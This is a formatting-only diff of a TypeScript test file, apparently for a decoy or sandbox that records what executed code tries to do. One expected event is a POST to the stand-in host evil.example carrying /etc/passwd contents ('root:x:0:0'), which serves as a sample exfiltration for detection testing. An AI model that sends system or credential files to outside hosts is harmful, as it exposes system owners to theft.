@@ -4,7 +4,11 @@ import { type Expected, inDecoy, those } from "./decoy-support.ts";
 
 /** What real AES makes of it. */
 function aesCbc(text: string): string {
-  const cipher = createCipheriv("aes-128-cbc", Uint8Array.from({ length: 16 }, (_, index) => index), new Uint8Array(16));
+  const cipher = createCipheriv(
+    "aes-128-cbc",
+    Uint8Array.from({ length: 16 }, (_, index) => index),
+    new Uint8Array(16),
+  );
   return cipher.update(text, "utf8", "hex") + cipher.final("hex");
 }
 
@@ -145,7 +149,11 @@ except RequestException as e: print(type(e).__name__)`,
           headers: { "X-A": "1", "Content-Type": "application/json" },
         },
       ],
-      ["network", "requests.Session.post", { url: "http://evil.example/up", body: expect.stringContaining("root:x:0:0") }],
+      [
+        "network",
+        "requests.Session.post",
+        { url: "http://evil.example/up", body: expect.stringContaining("root:x:0:0") },
+      ],
       ["network", "requests.put", { body: "hex:0001" }],
     ],
     stdout: "203.0.113.47\n204 True\nMissingSchema\n",
